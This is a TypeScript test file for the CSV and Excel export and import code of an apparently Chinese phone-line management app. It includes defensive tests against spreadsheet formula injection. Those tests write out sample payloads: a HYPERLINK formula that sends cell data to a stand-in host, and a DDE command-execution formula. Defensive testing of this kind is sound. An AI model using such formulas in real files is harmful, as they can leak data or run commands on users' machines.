import { readFileSync } from "node:fs";
import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { parseCsv } from "hucre";
import { describe, expect, test } from "vitest";
import { guardText, unguardText } from "@/lib/domain/import/export-guard";
import { mapNumberRow } from "@/lib/domain/import/map-number-row";
import { matchColumns, toMapping } from "@/lib/domain/import/match-columns";
import { NUMBER_COLUMNS } from "@/lib/domain/import/number-columns";
import { textCell } from "@/lib/domain/import/raw-row";
import { localDate } from "@/lib/domain/local-date";
import type { ExportColumn, ExportRow } from "./export-table";
import { PUBLISHED_DATA, publishedPath } from "./testing/published-data";
import { readAll, textsOf } from "./testing/read-all";
import { writeCsv } from "./write-csv";
import { writeErrorRows } from "./write-error-rows";
import { writeImportTemplate } from "./write-import-template";
import { writeXlsx } from "./write-xlsx";

const COLUMNS: readonly ExportColumn[] = [
  { header: "号码", kind: "phone" },
  { header: "备注", kind: "text" },
  { header: "余额(元)", kind: "number" },
];
const options = {
  today: localDate("2026-10-20"),
  timeZone: "Asia/Shanghai",
  dateOrder: null,
  usesDate1904: false,
  mustFillRow: false,
};

async function bytesOf(pieces: AsyncIterable<Uint8Array>): Promise<Buffer> {
  const all: Uint8Array[] = [];
  for await (const piece of pieces) all.push(piece);
  return Buffer.concat(all);
}
const write = (format: "csv" | "xlsx", rows: readonly ExportRow[]) =>
  bytesOf(format === "csv" ? writeCsv(COLUMNS, rows) : writeXlsx("号码", COLUMNS, rows));

async function importBack(bytes: Uint8Array, format: "csv" | "xlsx") {
  const rows = await readAll(bytes, `x.${format}`);
  if (!rows.ok) throw new RangeError(rows.refusal.code);
  const mapping = toMapping(
    matchColumns(
      (rows.value[0]?.cells ?? []).map((cell) => cell.text),
      NUMBER_COLUMNS,
    ),
  );
  return rows.value.slice(1).map((row) => mapNumberRow(row.cells, mapping, options));
}

describe("exports", () => {
  test("a CSV is UTF-8 with byte order mark and CRLF, phone numbers stay digits, amounts stay numbers", async () => {
    const bytes = await write("csv", [
      ["13800138000", "=1+1", "-12.50"],
      ["01012345678", 'a","=1+1', null],
    ]);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.toString("utf8").slice(1)).toBe(
      `号码,备注,余额(元)\r\n13800138000,"'=1+1",-12.50\r\n01012345678,"a"",""=1+1",\r\n`,
    );
  });

  test("no text cell begins with what a spreadsheet would run, whoever parses it (T23, F-5 to F-7)", async () => {
    const triggers = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"];
    const formulas = ['=HYPERLINK("http://evil.test?"&A1)', "=cmd|' /C calc'!A0", '@SUM(A1)","=1+1'];
    const texts = [...triggers.map((trigger) => `${trigger}1+1`), ...formulas];
    const rows = texts.map((text) => ["13800138000", text, null]);
    const text = (await write("csv", rows)).toString("utf8");
    const byOne: string[][] = parse(text, { bom: true });
    const byOther = parseCsv(text, { delimiter: "," });
    for (const parsed of [byOne, byOther]) {
      expect(parsed.length).toBe(texts.length + 1);
      for (const row of parsed.slice(1)) expect(String(row[1])).toMatch(/^'/);
    }
  });

  test("workbook cells of numbers are text, so no digit and no zero is lost", async () => {
    const rows = await readAll(await write("xlsx", [["01012345678", "=1+1", "-12.50"]]), "x.xlsx");
    expect(rows.ok && rows.value[1]?.cells).toEqual([
      { text: "01012345678", kind: "text" },
      { text: "'=1+1", kind: "text" },
      { text: "-12.5", kind: "number", number: -12.5 },
    ]);
  });

  test("guarding and unguarding any text is the identity", () => {
    const text = fc.string({
      unit: fc.constantFrom("'", "=", "+", "-", "@", "＝", "\t", "\r", "a", "1"),
      maxLength: 6,
    });
    fc.assert(
      fc.property(fc.oneof(text, fc.string()), (value) => {
        expect(unguardText(guardText(value))).toBe(value);
      }),
    );
  });

  test.each(["csv", "xlsx"] as const)(
    "importing an exported %s gives what was exported",
    async (format) => {
      const phone = fc.integer({ min: 0, max: 99_999_999 }).map((tail) => `138${String(tail).padStart(8, "0")}`);
      const notes = fc
        .string({
          unit: fc.constantFrom("'", "=", "+", "-", "＠", "a", "号", "𠮷", '"', ",", ";", "\n", "_x000D_", "<", "&"),
          maxLength: 8,
        })
        .filter((text) => text.trim() !== "");
      const fen = fc.integer({ min: -100_000_000, max: 100_000_000 });
      await fc.assert(
        fc.asyncProperty(fc.array(fc.tuple(phone, notes, fen), { minLength: 1, maxLength: 8 }), async (rows) => {
          const exported = rows.map(
            ([number, text, amount]): ExportRow => [
              number,
              text,
              `${amount < 0 ? "-" : ""}${Math.floor(Math.abs(amount) / 100)}.${String(Math.abs(amount) % 100).padStart(2, "0")}`,
            ],
          );
          const imported = await importBack(await write(format, exported), format);
          expect(imported.flatMap((row) => row.problems)).toEqual([]);
          expect(imported.map(({ row }) => [row?.phoneNumber.national, row?.notes, row?.balance])).toEqual(
            rows.map(([number, text, amount]) => [number, text, amount]),
          );
          const turned = await importBack(await write(format, [...exported].reverse()), format);
          expect(turned.map(({ row }) => row).reverse()).toEqual(imported.map(({ row }) => row));
        }),
        { numRuns: 40 },
      );
    },
    20_000,
  );

  test.skipIf(PUBLISHED_DATA === null)("published payloads come out as stated (LINEKEEPER_PUBLISHED_DATA)", () => {
    const { rows } = JSON.parse(readFileSync(publishedPath("csv-injection", "expected.json"), "utf8"));
    for (const { payload, when_exported } of rows) expect(guardText(payload)).toBe(when_exported);
  });
});

test.each(["csv", "xlsx"] as const)(
  "refused rows come back whole as %s, with line and reason, and can be uploaded again",
  async (format) => {
    const labels = { line: "行号", reason: "错误原因", sheet: "错误行" };
    const refused = Array.from({ length: 1_000 }, (_, index) => ({
      line: index + 2,
      reason: "号码缺失",
      cells: [textCell("1.38E+10"), textCell("'=1")],
    }));
    const bytes = await bytesOf(writeErrorRows(format, ["号码", "备注"], refused, labels));
    const texts = await textsOf(bytes, `x.${format}`);
    if (typeof texts === "string") throw new RangeError(texts);
    expect(texts.length).toBe(1_001);
    expect(texts.slice(0, 2)).toEqual([
      ["号码", "备注", "行号", "错误原因"],
      ["1.38E+10", "'=1", "2", "号码缺失"],
    ]);
    expect(toMapping(matchColumns(texts[0] ?? [], NUMBER_COLUMNS))).toEqual(["phoneNumber", "notes", null, null]);
  },
);

test.each(["csv", "xlsx"] as const)(
  "a refused row with too many cells loses none in %s, and is too long again until they are moved (B7)",
  async (format) => {
    const labels = { line: "行号", reason: "错误原因", sheet: "错误行" };
    const row = { line: 7, reason: "多了", cells: ["13800138000", "甲", "=1+1", "丁"].map(textCell) };
    const bytes = await bytesOf(writeErrorRows(format, ["号码", "套餐"], [row], labels));
    expect((await textsOf(bytes, `x.${format}`))[1]).toEqual(["13800138000", "甲", "7", "多了", "'=1+1", "丁"]);
    const [mapped] = await importBack(bytes, format);
    expect(mapped?.problems).toMatchObject([{ code: "TOO_MANY_CELLS", params: { expected: 4, found: 6 } }]);
  },
);

test("the template's example row can be imported as it is", async () => {
  const labels = {
    sheet: "号码",
    notesSheet: "说明",
    column: "列",
    required: "必填",
    example: "示例",
    remark: "说明",
    yes: "是",
  };
  const bytes = await writeImportTemplate(NUMBER_COLUMNS, "zh", labels, { role: "主用、备用、闲置" });
  const [mapped] = await importBack(bytes, "xlsx");
  expect(mapped?.problems).toEqual([]);
  expect(mapped?.row).toMatchObject({ carrier: "中国移动", role: "primary", lineState: "inService" });
  expect((await textsOf(bytes, "x.xlsx", { sheet: 1 }))[1]).toEqual(["号码", "是", "13800138000"]);
  // What two other columns ask for is not asked for once more.
  expect((await textsOf(bytes, "x.xlsx"))[0]).toEqual(expect.not.arrayContaining(["归属地"]));
});
